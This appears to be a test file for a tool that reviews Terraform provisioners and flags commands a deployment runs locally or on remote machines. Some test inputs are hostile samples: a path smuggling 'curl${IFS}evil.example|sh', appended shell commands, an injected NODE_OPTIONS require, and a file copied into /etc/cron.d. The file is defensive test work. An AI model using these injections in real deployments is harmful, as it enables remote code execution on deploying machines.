/** What a deployment runs: only the library's own scripts, called as the library calls them, are known. */
import { change, CloudStack, withResource } from "../support/review";

const runs = (provisioner: object, more: object = {}): CloudStack =>
  withResource("null_resource", { provisioner: [provisioner], ...more });
const local = (settings: object) => runs({ "local-exec": settings });
const exposed = (before: CloudStack, after: CloudStack) => change(before, after).exposures;
const SCRIPT = `node assets/x-script_12AB/${"0A".repeat(16)}/enable-services.cjs`;

test("the library's script is known, with the variables that it is given", () => {
  expect(exposed({}, local({ command: SCRIPT, environment: { PROJECT: "p", SERVICES: "a" } }))).toEqual([]);
});

test.each<[string, object]>([
  ["more in its path", { command: "node assets/x;curl${IFS}evil.example|sh;/enable-services.cjs" }],
  ["more after it", { command: `${SCRIPT}; id` }],
  ["more in another line", { command: `${SCRIPT}\nid` }],
  ["a variable that node obeys", { command: SCRIPT, environment: { NODE_OPTIONS: "--require ./evil.js" } }],
  ["variables that only Terraform knows", { command: SCRIPT, environment: "${var.all}" }],
  ["another interpreter", { command: SCRIPT, interpreter: ["sh", "-c"] }],
  ["another folder", { command: SCRIPT, working_dir: "/tmp" }],
  ["a script that it does not have", { command: SCRIPT.replace("enable-services", "constructor") }],
])("with %s it is another command", (_, settings) => {
  expect(exposed({}, local(settings))).toMatchObject([
    { text: "a deployment runs a command on the computer that deploys" },
  ]);
});

test.each<[string, object, object]>([
  ["environment", { command: "./x", environment: { A: "1" } }, { command: "./x", environment: { A: "2" } }],
  ["interpreter", { command: "x" }, { command: "x", interpreter: ["python3"] }],
])("another %s of a command is another command", (_, before, after) => {
  expect(exposed(local(before), local(after))).toHaveLength(1);
  expect(exposed(local(after), local(after))).toEqual([]);
});

test.each<[string, object, object]>([
  ["script", { script: "a.sh" }, { script: "b.sh" }],
  ["scripts", { scripts: ["a.sh"] }, { scripts: ["b.sh"] }],
  ["inline", { inline: ["a"] }, { inline: ["b"] }],
  ["connection", { inline: ["a"], connection: { host: "a" } }, { inline: ["a"], connection: { host: "b" } }],
])("another %s on another machine", (key, before, after) => {
  const [first] = exposed(runs({ "remote-exec": before }), runs({ "remote-exec": after }));
  expect(first.text).toBe("a deployment runs a command on another machine");
  expect(first.values[0]).toBe(key === "connection" ? "a" : key === "inline" ? "b" : "b.sh");
});

test("a file that is copied, and the machine that it is copied to", () => {
  const file = (host: string) =>
    runs({ file: { source: "a", destination: "/etc/cron.d/a" } }, { connection: { type: "ssh", host } });
  expect(exposed({}, file("a"))[0].values).toEqual(["a to /etc/cron.d/a", "null_resource.mine"]);
  expect(exposed(file("a"), file("b"))).toHaveLength(1);
});

test("several provisioners of one kind", () => {
  expect(exposed({}, runs({ "local-exec": [{ command: "a" }, { command: "b" }] }))).toHaveLength(2);
});

test("values of variables are not shown", () => {
  const [{ values }] = exposed({}, local({ command: "./x", environment: { HARMLESS: "correct-horse" } }));
  expect(values).toEqual(["./x (with HARMLESS)", "null_resource.mine"]);
});
